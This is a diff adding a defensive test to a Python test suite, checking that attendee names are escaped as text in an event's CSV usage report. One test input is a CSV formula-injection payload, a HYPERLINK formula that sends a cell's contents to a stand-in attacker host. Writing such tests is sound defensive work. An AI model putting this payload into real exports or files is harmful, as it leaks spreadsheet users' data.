@@ -14,6 +14,7 @@ from shared.governance.rollups import REFUSALS
 from tests.harness import FUNCTION_KEY, AppHost, EventSetup, Simulator, Storage
 
 NUMBERS = ("prompt_tokens", "completion_tokens", "total_tokens", "units")
+CHAT = "/openai/deployments/gpt-4o-mini/chat/completions?api-version=2024-10-21"
 
 
 def run_timer(host: AppHost, name: str) -> None:
@@ -88,6 +89,28 @@ def test_csv_report_has_the_same_totals(host: AppHost, event: EventSetup, storag
     assert list(rows[0]) == ["attendee_id", "user", "requests", *NUMBERS, *refused]
     assert sum(int(r["requests"]) for r in rows) == len(records) == 5
     assert sum(int(r["total_tokens"]) for r in rows) == sum(r["total_tokens"] for r in records)
+
+
+def test_attendee_names_cannot_act_as_formulas_in_the_csv(
+    host: AppHost, event: EventSetup, storage: Storage
+) -> None:
+    names = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', "@sum(1+1)", "+1-2", "-3"]
+    for name in names:
+        key = event.add_attendee(name)["api_key"]
+        body = {"messages": [{"role": "user", "content": "hi"}], "max_tokens": 4}
+        answer = host.http.post(CHAT, json=body, headers={"api-key": key})
+        assert answer.status_code == 200, answer.text
+    storage.usage(event.id, expect=len(names))
+    response = host.manage.get(
+        f"/events/{event.id}/usage", params={"group_by": "attendee", "format": "csv"}
+    )
+    rows = {row["user"]: row for row in csv.DictReader(io.StringIO(response.text))}
+    stored = {a["user"] for a in host.manage.get(f"/events/{event.id}/attendees").json()}
+    for name in stored - {"attendee@example.com"}:
+        assert "'" + name in rows, (name, list(rows))  # shown as text, never run
+        assert rows["'" + name]["requests"] == "1"  # numbers stay numbers
+        assert not rows["'" + name]["attendee_id"].startswith("'")
+    assert len(stored) == len(names) + 1
 
 
 def test_attendee_list_carries_totals(host: AppHost, event: EventSetup, storage: Storage) -> None:
